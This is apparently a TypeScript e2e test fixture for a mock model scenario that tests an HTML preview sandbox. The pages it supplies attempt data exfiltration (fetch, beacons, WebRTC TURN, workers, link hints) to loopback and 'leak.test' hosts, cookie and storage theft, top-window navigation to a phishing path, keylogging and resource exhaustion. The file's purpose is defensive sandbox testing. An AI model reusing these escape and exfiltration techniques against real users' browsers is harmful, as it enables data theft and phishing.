import { lastUserText, reply } from '../../reply-builders';
import type { Scenario } from '../../scenario-types';
import { standardModels } from '../models/standard-models';

const fence = (language: string, code: string): string => `\`\`\`${language}\n${code}\n\`\`\``;

/** A page the model writes, then revises (same title): two versions of one artifact. */
export const CLOCK_V1 = '<!doctype html>\n<title>Clock</title>\n<h1 id="face">12:00</h1>\n<p>A plain clock.</p>';
export const CLOCK_V2 =
  '<!doctype html>\n<title>Clock</title>\n<h1 id="face" style="color: red">12:00</h1>\n<p>A red clock.</p>\n<script>document.getElementById("face").dataset.ran = "yes";</script>';

/**
 * An artifact that tries, from inside the preview frame, everything the frame must not do, and
 * writes what happened to each attempt into its own page (`#results`, one `name: outcome` line
 * each; "ALLOWED" means it got through). The e2e spec reads the lines and checks the window too.
 */
export const HOSTILE_ARTIFACT = `<!doctype html>
<title>Hostile</title>
<pre id="results"></pre>
<button id="draw">Draw a 50 MB SVG</button>
<form id="post" method="post" action="http://127.0.0.1:9/steal"><input name="x" value="secret"></form>
<script>
const results = {};
const attempt = async (name, action) => {
  try { const outcome = await action(); results[name] = outcome === undefined ? 'ALLOWED' : outcome; }
  catch (error) { results[name] = 'blocked: ' + (error && error.name ? error.name : String(error)); }
};
(async () => {
  await attempt('fetch', async () => { await fetch('http://127.0.0.1:9/exfil?d=1'); });
  await attempt('fetch-app', async () => { await fetch('/'); });
  await attempt('xhr', () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.onload = () => resolve(undefined); x.onerror = () => reject(new TypeError('network')); x.open('GET', 'http://127.0.0.1:9/x'); x.send(); }));
  await attempt('websocket', () => new Promise((resolve, reject) => { const w = new WebSocket('ws://127.0.0.1:9/'); w.onopen = () => resolve(undefined); w.onerror = () => reject(new TypeError('ws')); }));
  await attempt('image', () => new Promise((resolve, reject) => { const i = new Image(); i.onload = () => resolve(undefined); i.onerror = () => reject(new TypeError('image')); i.src = 'http://127.0.0.1:9/pixel.png'; }));
  await attempt('font', async () => { await new FontFace('Remote', 'url(http://127.0.0.1:9/font.woff2)').load(); });
  await attempt('parent-document', () => { void window.parent.document.title; });
  await attempt('top-document', () => { void window.top.document.title; });
  await attempt('parent-taco', () => { if (window.top.taco === undefined) throw new Error('no window.taco'); });
  await attempt('parent-write', () => { window.top.__pwned = true; });
  await attempt('top-location', () => { window.top.location.href = 'http://127.0.0.1:9/phish'; });
  await attempt('cookie', () => { document.cookie = 'taco=stolen'; void document.cookie; });
  await attempt('localStorage', () => { localStorage.setItem('taco', 'x'); });
  await attempt('sessionStorage', () => { sessionStorage.setItem('taco', 'x'); });
  await attempt('indexedDB', () => new Promise((resolve, reject) => { const r = indexedDB.open('taco'); r.onsuccess = () => resolve(undefined); r.onerror = () => reject(r.error); }));
  await attempt('window-open', () => { if (window.open('http://127.0.0.1:9/popup') === null) throw new Error('no window'); });
  await attempt('form-post', () => { document.getElementById('post').submit(); });
  await attempt('download', () => { const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x.txt'; document.body.append(a); a.click(); return 'clicked (no download may follow)'; });
  document.getElementById('results').textContent = Object.entries(results).map(([name, outcome]) => name + ': ' + outcome).join('\\n');
  document.body.dataset.done = 'yes';
  // Then, on a click, a 50 MB SVG drawn inside the frame: its thread may be busy for long (and the
  // frame stopped); the window's must not be.
  document.getElementById('draw').addEventListener('click', () => {
    const rect = '<rect x="1" y="1" width="1" height="1" fill="red"/>';
    const big = '<svg xmlns="http://www.w3.org/2000/svg">' + rect.repeat(Math.ceil((50 * 1024 * 1024) / rect.length)) + '</svg>';
    const holder = document.createElement('div');
    holder.innerHTML = big;
    document.body.append(holder);
    document.body.dataset.svg = String(Math.round(big.length / 1048576));
  });
})();
</script>`;

/** An artifact that never yields its thread: the preview must stop it, not the window. */
export const LOOP_ARTIFACT = '<!doctype html>\n<title>Loop</title>\n<p id="before">about to loop</p>\n<script>for (;;) {}</script>';

/** An artifact that tries to leave its frame by navigating it to an address carrying what it read. */
export const NAVIGATING_ARTIFACT =
  "<!doctype html>\n<title>Away</title>\n<script>location.href = 'http://127.0.0.1:9/leak?d=' + encodeURIComponent(document.title);</script>";

/**
 * An artifact that tries to take the keyboard: its input has `autofocus` and calls `focus()` every
 * 20 ms, and it writes every key it receives into `#typed`, how often it gained focus into `#focused`
 * and when it first tried (the clock's milliseconds) into `#first`.
 */
export const KEYLOGGER_ARTIFACT = `<!doctype html>
<title>Notes</title>
<input id="field" autofocus aria-label="Notes">
<p>Typed: <span id="typed"></span></p>
<p>Focused: <span id="focused">0</span></p>
<p>First try: <span id="first"></span></p>
<script>
const field = document.getElementById('field');
let focused = 0;
field.addEventListener('focus', () => { focused += 1; document.getElementById('focused').textContent = String(focused); });
document.addEventListener('keydown', (event) => { document.getElementById('typed').textContent += event.key; }, true);
setInterval(() => { if (!document.getElementById('first').textContent) document.getElementById('first').textContent = String(Date.now()); field.focus(); }, 20);
document.body.dataset.ready = 'yes';
</script>`;

/**
 * An artifact that tries the channels no CSP directive governs, all aimed at `port` on loopback
 * (where the test listens): WebRTC to a STUN and a TURN server (UDP and TCP, the username carrying
 * the "secret"), and connection hints (`preconnect`, `dns-prefetch`) in its markup and added by script.
 * Writes each attempt's outcome into `#results` like the hostile artifact.
 */
export function talkingArtifact(port: number): string {
  return `<!doctype html>
<title>Talking</title>
<link rel="preconnect" href="http://127.0.0.1:${port}/">
<link rel="dns-prefetch" href="http://127.0.0.1:${port}/">
<pre id="results"></pre>
<script>
const results = {};
const attempt = async (name, action) => {
  try { const outcome = await action(); results[name] = outcome === undefined ? 'ALLOWED' : outcome; }
  catch (error) { results[name] = 'blocked: ' + (error && error.name ? error.name : String(error)); }
};
(async () => {
  await attempt('preconnect-script', () => { const link = document.createElement('link'); link.rel = 'preconnect'; link.href = 'http://127.0.0.1:${port}/x'; document.head.append(link); return 'added'; });
  await attempt('webrtc', async () => {
    const Peer = window.RTCPeerConnection || window.webkitRTCPeerConnection;
    if (typeof Peer !== 'function') throw new TypeError('no RTCPeerConnection');
    const peer = new Peer({ iceServers: [
      { urls: 'stun:127.0.0.1:${port}' },
      { urls: ['turn:127.0.0.1:${port}?transport=udp', 'turn:127.0.0.1:${port}?transport=tcp'], username: 'typed-secret', credential: 'x' },
    ], iceTransportPolicy: 'all' });
    peer.createDataChannel('out');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((resolve) => { peer.onicegatheringstatechange = () => { if (peer.iceGatheringState === 'complete') resolve(); }; setTimeout(resolve, 3000); });
    return 'gathered';
  });
  document.getElementById('results').textContent = Object.entries(results).map(([name, outcome]) => name + ': ' + outcome).join('\\n');
  document.body.dataset.done = 'yes';
})();
</script>`;
}

/**
 * The names the channel artifacts aim at: each channel its own name under LEAK_DOMAIN, which the
 * test's browser maps to its listener (`--host-resolver-rules`), so a lookup of one is seen in the
 * browser's network log and a connection to one at the listener.
 */
export const LEAK_DOMAIN = 'leak.test';

/**
 * An artifact that tries every other way out of the preview, each aimed at its own name
 * (`<channel>.leak.test:PORT`): connection hints (`preconnect`, `dns-prefetch`, `prefetch`,
 * `preload`, `modulepreload`, in its markup and added by script), speculation rules, EventSource,
 * `sendBeacon`, a Worker, a SharedWorker and a service worker that would fetch out, and navigation of
 * the window (`location =`, `window.open`, `<a target=_top>` and `_blank`, a form submitted to the
 * top) and, on a click of `#refresh`, of its own frame by a meta refresh. Writes each attempt's outcome into `#results`; what counts is
 * what the test's listener and the browser's network log saw.
 */
export function channelsArtifact(port: number): string {
  const at = (channel: string): string => `http://${channel}.${LEAK_DOMAIN}:${port}`;
  const hints = ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload'];
  const markupHints = hints.map((rel) => `<link rel="${rel}" href="${at(`${rel}-markup`)}/x"${rel === 'preload' ? ' as="fetch"' : ''}>`);
  return `<!doctype html>
<title>Channels</title>
${markupHints.join('\n')}
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${at('speculation')}/"]}],"prerender":[{"source":"list","urls":["${at('prerender')}/"]}]}</script>
<pre id="results"></pre>
<button id="refresh">Refresh away</button>
<a id="top-link" href="${at('anchor-top')}/" target="_top">top</a>
<a id="blank-link" href="${at('anchor-blank')}/" target="_blank">blank</a>
<form id="top-form" method="post" action="${at('form-top')}/" target="_top"><input name="typed" value="secret"></form>
<script>
const results = {};
const attempt = async (name, action) => {
  try { const outcome = await action(); results[name] = outcome === undefined ? 'ALLOWED' : outcome; }
  catch (error) { results[name] = 'blocked: ' + (error && error.name ? error.name : String(error)); }
};
const worker = (url) => 'fetch(' + JSON.stringify(url) + ').catch(() => {});';
(async () => {
  for (const rel of ${JSON.stringify(hints)}) await attempt(rel + '-script', () => { const link = document.createElement('link'); link.rel = rel; if (rel === 'preload') link.as = 'fetch'; link.href = 'http://' + rel + '-script.${LEAK_DOMAIN}:${port}/x'; document.head.append(link); return 'added'; });
  await attempt('eventsource', () => new Promise((resolve, reject) => { const source = new EventSource('${at('eventsource')}/'); source.onopen = () => resolve(undefined); source.onerror = () => { source.close(); reject(new TypeError('eventsource')); }; }));
  await attempt('beacon', () => (navigator.sendBeacon('${at('beacon')}/', 'typed-secret') ? 'queued' : 'refused'));
  await attempt('worker-blob', () => { new Worker(URL.createObjectURL(new Blob([worker('${at('worker-blob')}/')], { type: 'text/javascript' }))); return 'constructed'; });
  await attempt('worker-data', () => { new Worker('data:text/javascript,' + encodeURIComponent(worker('${at('worker-data')}/'))); return 'constructed'; });
  await attempt('shared-worker', () => { new SharedWorker(URL.createObjectURL(new Blob([worker('${at('shared-worker')}/')], { type: 'text/javascript' }))); return 'constructed'; });
  await attempt('service-worker', async () => { await navigator.serviceWorker.register(URL.createObjectURL(new Blob([worker('${at('service-worker')}/')], { type: 'text/javascript' }))); });
  await attempt('window-open', () => { if (window.open('${at('window-open')}/') === null) throw new Error('no window'); });
  await attempt('top-location', () => { window.top.location = '${at('top-location')}/'; });
  await attempt('parent-location', () => { window.parent.location = '${at('parent-location')}/'; });
  await attempt('anchor-top', () => { document.getElementById('top-link').click(); return 'clicked'; });
  await attempt('anchor-blank', () => { document.getElementById('blank-link').click(); return 'clicked'; });
  await attempt('form-top', () => { document.getElementById('top-form').submit(); return 'submitted'; });
  document.getElementById('results').textContent = Object.entries(results).map(([name, outcome]) => name + ': ' + outcome).join('\\n');
  document.body.dataset.done = 'yes';
  // Last, on a click, its own frame by a meta refresh (if it went anywhere, this page would be gone).
  document.getElementById('refresh').addEventListener('click', () => {
    const meta = document.createElement('meta');
    meta.httpEquiv = 'refresh';
    meta.content = '0;url=${at('meta-refresh')}/';
    document.head.append(meta);
  });
})();
</script>`;
}

/**
 * An artifact that makes frames inside itself, which its first script never ran in, and tries
 * WebRTC from there (STUN and TURN at `port` on 127.0.0.77): from its own script through an
 * `about:blank` child's window, and from a `srcdoc` child's own script. Writes `webrtc-child` and
 * `webrtc-srcdoc` outcomes into `#results`.
 */
export function childFrameWebRtcArtifact(port: number): string {
  const servers = `[{ urls: 'stun:127.0.0.77:${port}' }, { urls: 'turn:127.0.0.77:${port}?transport=udp', username: 'typed-secret', credential: 'x' }]`;
  const gather = `async (Peer) => { if (typeof Peer !== 'function') throw new TypeError('no RTCPeerConnection'); const peer = new Peer({ iceServers: ${servers} }); peer.createDataChannel('out'); await peer.setLocalDescription(await peer.createOffer()); return 'gathering'; }`;
  const childScript = `(${gather})(window.RTCPeerConnection).then((outcome) => parent.postMessage({ srcdoc: outcome }, '*'), (error) => parent.postMessage({ srcdoc: 'blocked: ' + error.name }, '*'));`;
  return `<!doctype html>
<title>Child frames</title>
<pre id="results"></pre>
<script>
const results = {};
const gather = ${gather};
const show = () => {
  document.getElementById('results').textContent = Object.entries(results).map(([name, outcome]) => name + ': ' + outcome).join('\\n');
  if (Object.keys(results).length === 2) document.body.dataset.done = 'yes';
};
window.addEventListener('message', (event) => { if (event.data && typeof event.data.srcdoc === 'string') { results['webrtc-srcdoc'] = event.data.srcdoc; show(); } });
(async () => {
  try {
    const child = document.createElement('iframe');
    document.body.append(child);
    results['webrtc-child'] = await gather(child.contentWindow.RTCPeerConnection);
  } catch (error) { results['webrtc-child'] = 'blocked: ' + (error && error.name ? error.name : String(error)); }
  show();
  const sourced = document.createElement('iframe');
  sourced.srcdoc = '<script>' + ${JSON.stringify(childScript)} + '</' + 'script>';
  document.body.append(sourced);
})();
</script>`;
}

/**
 * Answers with artifacts: "clock" writes a page, "red" revises it, "hostile" writes the hostile
 * artifact, "listen" one that takes focus to read typing, "call home on PORT" one that tries WebRTC and
 * connection hints at PORT, "every channel to PORT" the channels artifact, "child frame on PORT" WebRTC from a child frame, "away" one that navigates its frame, "loop" one that never ends; anything else gets an SVG.
 */
export const artifacts: Scenario = {
  name: 'artifacts',
  description: 'Answers with previewable artifacts: a page and its revision, a hostile page, an infinite loop, an SVG.',
  models: standardModels(),
  replies: [],
  whenExhausted: (request) => {
    const text = lastUserText(request);
    const channels = /every channel to (\d+)/i.exec(text);
    if (channels) return reply.text(`Here it is:\n\n${fence('html', channelsArtifact(Number(channels[1])))}`);
    const child = /child frame on (\d+)/i.exec(text);
    if (child) return reply.text(`Here it is:\n\n${fence('html', childFrameWebRtcArtifact(Number(child[1])))}`);
    const talk = /call home on (\d+)/i.exec(text);
    if (talk) return reply.text(`Here it is:\n\n${fence('html', talkingArtifact(Number(talk[1])))}`);
    if (/listen/i.test(text)) return reply.text(`Here it is:\n\n${fence('html', KEYLOGGER_ARTIFACT)}`);
    if (/hostile/i.test(text)) return reply.text(`Here it is:\n\n${fence('html', HOSTILE_ARTIFACT)}`);
    if (/away/i.test(text)) return reply.text(`Here it is:\n\n${fence('html', NAVIGATING_ARTIFACT)}`);
    if (/loop/i.test(text)) return reply.text(`Here it is:\n\n${fence('html', LOOP_ARTIFACT)}`);
    if (/red/i.test(text)) return reply.text(`Now red:\n\n${fence('html', CLOCK_V2)}`);
    if (/clock/i.test(text)) return reply.text(`A clock:\n\n${fence('html', CLOCK_V1)}`);
    return reply.text(
      `A logo:\n\n${fence('svg', '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="80"><title>Logo</title><circle cx="40" cy="40" r="30" fill="orange"/></svg>')}`,
    );
  },
};
